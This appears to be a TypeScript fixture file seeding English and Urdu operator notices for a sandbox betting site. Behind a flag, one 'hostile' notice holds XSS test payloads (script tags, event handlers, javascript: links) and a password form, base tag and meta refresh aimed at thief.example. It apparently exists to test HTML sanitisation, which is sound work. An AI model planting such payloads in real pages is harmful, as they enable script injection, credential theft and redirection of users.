export type NoticeType = 'PL' | 'H' | 'PU' | 'PR';

export interface Notice {
  id: string;
  type: NoticeType;
  title: string;
  /** HTML as an operator's editor leaves it: never to be trusted. */
  content: string;
  /** ms. */
  time: number;
}

interface NoticeSeed {
  id: string;
  type: NoticeType;
  hoursAgo: number;
  /** How long it is shown; without it, it stays. */
  hours?: number;
  words: Partial<Record<string, { title: string; content: string }>> & { EN: { title: string; content: string } };
}

const hour = 3_600_000;

const scheduleRows = [
  'Harbour 5D',
  'Northgate 4D',
  'Lotus Delta 3D',
  'Highland 6/45',
  'Old Quarter Keno',
  'Riverbend 3D',
]
  .flatMap((place) => ['00:10', '06:10', '12:10', '18:10'].map((time) => [place, time] as const))
  .map(
    ([place, time], row) =>
      `<tr><td>${place}</td><td>${time}</td><td>${row + 1}</td><td>Open until one minute before</td></tr>`,
  )
  .join('');

const longParagraphs = [
  'Draws of every place move to the new timetable on the first day of next month. Tickets bought before keep the time printed on them.',
  'Results stay listed for thirty days. After that the record of your own bets still shows them.',
  'If a draw cannot be held, every stake of it is returned in full and the record says so. Nothing has to be claimed.',
  'The numbers are drawn in the sandbox by a seed and a clock: they look like chance and can be repeated.',
].map((text) => `<p>${text}</p>`);

const seeds: readonly NoticeSeed[] = [
  {
    id: 'n-maintenance',
    type: 'PL',
    hoursAgo: 3,
    words: {
      EN: {
        title: 'Marquennette tables close for maintenance 03:00 to 04:30',
        content:
          '<p>All tables of <b>Marquennette</b> close from 03:00 to 04:30. Rounds that are running are finished and paid.</p><ul><li>Slots and draws go on</li><li>Balances are not affected</li></ul>',
      },
      UR: {
        title: 'Marquennette کی میزیں 03:00 سے 04:30 تک بند رہیں گی',
        content:
          '<p>تمام میزیں <b>03:00</b> سے <b>04:30</b> تک بند رہیں گی۔ جاری راؤنڈ مکمل کر کے ادا کیے جائیں گے۔</p>',
      },
    },
  },
  {
    id: 'n-payment',
    type: 'PL',
    hoursAgo: 9,
    words: {
      EN: {
        title: 'Deposits by bank transfer are back to normal speed',
        content: '<p>The slow payment route was replaced. Transfers arrive within five minutes again.</p>',
      },
      UR: {
        title: 'بینک ٹرانسفر سے رقم جمع کرانے کی رفتار معمول پر آ گئی ہے',
        content: '<p>سست راستہ بدل دیا گیا ہے۔ رقم دوبارہ پانچ منٹ میں پہنچتی ہے۔</p>',
      },
    },
  },
  {
    id: 'n-draw',
    type: 'H',
    hoursAgo: 30,
    words: {
      EN: {
        title: 'New timetable for the weekend draws',
        content: `${longParagraphs.join('')}<table><thead><tr><th>Draw</th><th>Time</th><th>No.</th><th>Betting</th></tr></thead><tbody>${scheduleRows}</tbody></table>${longParagraphs.join('')}`,
      },
      UR: {
        title: 'ویک اینڈ کی قرعہ اندازی کا نیا شیڈول',
        content: `<p>اگلے مہینے سے قرعہ اندازی نئے وقت پر ہو گی۔</p><table><tbody>${scheduleRows}</tbody></table>`,
      },
    },
  },
  {
    id: 'n-phishing',
    type: 'H',
    hoursAgo: 52,
    words: {
      EN: {
        title: 'Nobody from our service asks for your password',
        content:
          '<p>We never ask for a password or a code, by message or by phone. Check the address before you log in.</p><p>Read more in the <a href="/help">help centre</a>.</p>',
      },
      UR: {
        title: 'ہماری سروس کبھی آپ کا پاس ورڈ نہیں مانگتی',
        content: '<p>ہم کبھی پیغام یا فون پر پاس ورڈ یا کوڈ نہیں مانگتے۔ لاگ اِن سے پہلے پتا دیکھ لیں۔</p>',
      },
    },
  },
  {
    id: 'n-urdu',
    type: 'PL',
    hoursAgo: 76,
    words: {
      EN: {
        title: 'نیا والٹ Version 2.4 آ گیا ہے، 15 منٹ میں رقم',
        content:
          '<p dir="auto">اب <b>Wallet 2.4</b> میں رقم جمع کرانا آسان ہے: کم از کم 500، زیادہ سے زیادہ 50,000 روپے، اور وقت صرف 15 منٹ۔</p>',
      },
    },
  },
  {
    id: 'n-expired',
    type: 'PL',
    hoursAgo: 400,
    hours: 48,
    words: { EN: { title: 'Reef weekend', content: '<p>Double points in all fishing rooms until Sunday.</p>' } },
  },
  {
    id: 'n-popup',
    type: 'PU',
    hoursAgo: 5,
    words: {
      EN: {
        title: 'Welcome to the sandbox',
        content: '<p>Everything here is invented: vendors, games, people and money.</p>',
      },
      UR: { title: 'سینڈ باکس میں خوش آمدید', content: '<p>یہاں سب کچھ فرضی ہے: گیمز، لوگ اور رقم۔</p>' },
    },
  },
  {
    id: 'n-promotion',
    type: 'PR',
    hoursAgo: 20,
    words: {
      EN: {
        title: 'A first deposit, doubled',
        content: '<p>See the terms on the <a href="/promotions">promotions page</a>.</p>',
      },
      UR: { title: 'پہلی رقم، دگنی', content: '<p>شرائط <a href="/promotions">پروموشنز</a> پر دیکھیں۔</p>' },
    },
  },
];

/** What a compromised editor could publish; every part of it tries to run or to escape its box. */
const hostile: NoticeSeed = {
  id: 'n-hostile',
  type: 'PL',
  hoursAgo: 1,
  words: {
    EN: {
      title: 'A notice <img src=x onerror=alert(1)> with "teeth"',
      content: [
        '<p>Harmless words first.</p>',
        '<script>globalThis.hostileRan = "script"</script>',
        '<img src="/missing.png" onerror="globalThis.hostileRan = \'handler\'">',
        '<svg onload="globalThis.hostileRan = \'svg\'"><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
        '<iframe srcdoc="<script>parent.hostileRan = 1</script>"></iframe><iframe src="https://frame.example/"></iframe>',
        '<a href="javascript:globalThis.hostileRan = 1">A link</a> <a href=" java&#9;script:alert(1)">Another</a> <a href="data:text/html,<script>1</script>">A third</a>',
        '<form action="https://thief.example/"><input name="password" placeholder="Your password"><button>Send</button></form>',
        '<div style="position:fixed;inset:0;z-index:9999;background:red">Over everything</div>',
        '<img src="https://tracker.example/pixel.gif" alt=""><base href="https://thief.example/"><meta http-equiv="refresh" content="0;url=https://thief.example/">',
        '<p id="root" name="cookie">Words after.</p>',
      ].join('\n'),
    },
  },
};

/** Notices of the wanted types that are shown at `now`, newest first. Times stand still within a day. */
export function notices(
  types: readonly string[],
  language: string,
  now: number,
  withHostile: boolean,
): readonly Notice[] {
  const today = Math.floor(now / (24 * hour)) * 24 * hour;
  return [...(withHostile ? [hostile] : []), ...seeds]
    .map((seed) => ({ seed, time: today - seed.hoursAgo * hour }))
    .filter(({ seed, time }) => types.includes(seed.type) && (!seed.hours || now < time + seed.hours * hour))
    .sort((a, b) => b.time - a.time)
    .map(({ seed, time }) => {
      const { title, content } = seed.words[language] ?? seed.words.EN;
      return { id: seed.id, type: seed.type, title, content, time };
    });
}
